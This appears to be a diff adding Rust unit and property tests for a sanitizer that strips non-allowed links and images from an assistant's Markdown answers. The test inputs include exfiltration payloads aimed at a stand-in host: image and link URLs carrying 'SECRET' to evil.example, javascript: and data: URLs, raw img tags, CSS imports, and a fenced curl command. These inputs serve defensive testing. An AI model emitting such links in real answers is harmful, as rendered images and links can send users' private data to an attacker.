@@ -1,0 +1,153 @@
+//! What of an answer is shown. Whether something is a link is asked a renderer.
+
+use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser, Tag};
+
+use super::*;
+
+fn shown(answer: &str) -> String {
+    filtered(
+        &SafeLinks::new().allow_host("ok.example"),
+        "see https://said.example/a?b=c.",
+        answer,
+    )
+}
+
+fn check(answer: &str, expected: &str) {
+    assert_eq!(shown(answer), expected);
+}
+
+#[test]
+fn of_strange_links_and_images_the_text_and_the_host_are_left() {
+    check("![x](https://evil.example/?q=SECRET)", "x (evil.example)");
+    check("a [b](https://Evil.example:80/SECRET \"t\") c", "a b (evil.example) c");
+    check("[b](<https://evil.example/SECRET>)", "b (evil.example)");
+    check("[b](\nhttps://evil.example/SECRET\n)", "b (evil.example)");
+    check(
+        "[![b](https://evil.example/1)](https://evil.example/2)",
+        "b (evil.example) (evil.example)",
+    );
+    check("[b](//evil.example/SECRET)", "b (evil.example)");
+    check("[b](javascript:SECRET)", "b (javascript)");
+    check("![](https://evil.example/SECRET)", " (evil.example)");
+    check("See https://www.evil.example/?q=SECRET.", "See evil.example.");
+    check("See <https://evil.example/?q=SECRET>.", "See evil.example.");
+    check("See www.evil.example/?q=SECRET", "See evil.example");
+    check(
+        "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
+        "![x][1]\n\n[1] : evil.example",
+    );
+    check(
+        "<img src=\"//evil.example/SECRET\">",
+        "< img src=\"//evil.example/SECRET\">",
+    );
+    check("<style>@import '//evil.example'", "< style>@import '//evil.example'");
+}
+
+#[test]
+fn what_the_user_named_what_is_allowed_and_what_is_near_stays() {
+    for same in [
+        "[b](https://said.example/a?b=c) and https://said.example/a?b=c",
+        "[b](https://ok.example/?q=1) ![c](http://sub.ok.example/x.png) <https://ok.example>",
+        "![chart](chart.png) [top](#top) [docs](/docs/a.md)",
+        "a [1] b [x]: Hello, world; `Vec<String>` 1 < 2, a]b, (c)",
+        "",
+        "Nothing.",
+    ] {
+        check(same, same);
+    }
+    check("[b](https://said.example/a?b=d)", "b (said.example)");
+    check("[b](https://notok.example)", "b (notok.example)");
+    check("[b](https://ok.example@evil.example)", "b (evil.example)");
+    check("[b](https://ok.example.evil.example)", "b (ok.example.evil.example)");
+}
+
+#[test]
+fn fenced_code_stays_as_it_is() {
+    for same in [
+        "Do:\n```sh\ncurl https://evil.example/x\n```\nDone.",
+        "~~~\n[b](https://evil.example)\n```\n~~~",
+        "1. Do:\n   ```sh\n   curl https://evil.example/x\n   ```\n",
+        "```\n![x](https://evil.example)",
+    ] {
+        check(same, same);
+    }
+    // Here renderers see no code, or might not.
+    let image = "![x](https://evil.example/SECRET)";
+    for answer in [
+        format!("<!--\n```\n-->\n{image}\n```\n"),
+        format!("- a\n  ```\n{image}\n  ```\n"),
+        format!("- ```\n  ```\n{image}\n"),
+        format!("    {image}\n"),
+        format!("```\ncode\n```\n{image}\n```\ncode\n```\n"),
+        format!("`{image}\n"),
+    ] {
+        assert!(!shown(&answer).contains("SECRET"), "{answer}");
+    }
+}
+
+/// Every address that a renderer would make a link of, load, or put into HTML.
+fn live(text: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let options = Options::all() - Options::ENABLE_WIKILINKS;
+    for event in Parser::new_ext(text, options) {
+        match event {
+            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
+                found.push(dest_url.into_string())
+            }
+            Event::Html(html) | Event::InlineHtml(html) if has_attributes(&html) => found.push(html.into_string()),
+            _ => {}
+        }
+    }
+    found
+}
+
+fn has_attributes(html: &str) -> bool {
+    html.match_indices('<').any(|(at, _)| {
+        let tag = html[at + 1..].split('>').next().unwrap_or_default();
+        tag.starts_with(|first: char| first.is_ascii_alphabetic()) && tag.contains('=')
+    })
+}
+
+fn pieces() -> impl Strategy<Value = Vec<String>> {
+    let piece = prop_oneof![
+        3 => prop::sample::select(vec![
+            "https://evil.example/?q=S", "//evil.example/S", "www.evil.example/S", "https:\\//evil.example", "HTTPS://evil.example/",
+            "https&#58;//evil.example", "data:text/html,S", "javascript:S", "evil", "https://ok.example@evil.example",
+        ]),
+        6 => prop::sample::select(vec![
+            "![", "[", "](", "]", ")", "(", "]:", "][", "<", ">", "<img src=", "<a href=\"", "\"", "'", "<!--", "-->", "<div>",
+            "[x]: ", "![x](", "[1]", "\\", "`", "``", "```", "~~~", "|",
+        ]),
+        4 => prop::sample::select(vec![" ", "\n", "\n\n", "\r\n", "\r", "    ", "  ", "\t", "- ", "> ", "1. ", "# ", "a"]),
+    ];
+    prop::collection::vec(piece.prop_map(str::to_owned), 0..24)
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(1000))]
+
+    #[test]
+    fn no_renderer_finds_an_address_that_is_not_allowed(pieces in pieces()) {
+        let shown = shown(&pieces.concat());
+        for address in live(&shown) {
+            let remote = address.contains([':', '\\', '=']) || address.starts_with("//");
+            prop_assert!(!remote, "{address:?} in {shown:?}");
+        }
+    }
+
+    #[test]
+    fn it_does_not_matter_how_an_answer_is_cut(pieces in pieces()) {
+        let mut answer = SafeLinks::new().allow_host("ok.example").begin("https://said.example/a?b=c");
+        let mut streamed: String = pieces.iter().map(|piece| answer.push(piece)).collect();
+        streamed.push_str(&answer.finish());
+        prop_assert_eq!(streamed, shown(&pieces.concat()));
+    }
+
+    #[test]
+    fn code_between_fences_is_never_touched(pieces in pieces()) {
+        let code = pieces.concat().replace('\r', "").replace("~~~~", "");
+        let answer = format!("Look:\n~~~~\n{code}\n~~~~\nThat is all.");
+        prop_assert_eq!(shown(&answer), answer);
+    }
+}
